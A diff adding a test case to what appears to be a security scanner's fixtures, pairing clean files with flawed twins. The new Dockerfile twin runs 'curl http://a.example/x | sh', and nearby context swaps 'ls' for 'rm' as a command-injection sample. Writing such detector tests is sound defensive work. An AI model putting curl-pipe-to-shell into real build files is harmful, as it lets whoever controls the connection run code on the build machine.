@@ -282,6 +282,13 @@ TWINS = {
         {"src/a.rs": f"#[cfg(test)]\nmod tests {{\n    fn g() {{}}\n}}\n\n{PANIC}\n"},
     ),
     "command-injection": ({"a.py": LISTS}, {"b/a.py": LISTS.replace("ls ", "rm ")}),
+    "remote-script-plain-http": (
+        {"Dockerfile": f"# escape=`\nFROM a:1@sha256:{'a' * 64}\nUSER 1\n"},
+        {
+            "Dockerfile": f"# escape=`\nFROM a:1@sha256:{'a' * 64}\nUSER 1\n"
+            "RUN curl http://a.example/x `\n | sh\n"
+        },
+    ),
     "not-awaited": ({}, {"A.cs": WORK.format("async ()")}),
     "unsafe-replacement": (
         {"r.ts": "const r = router({ all: protectedProcedure.query(f) });\n"},
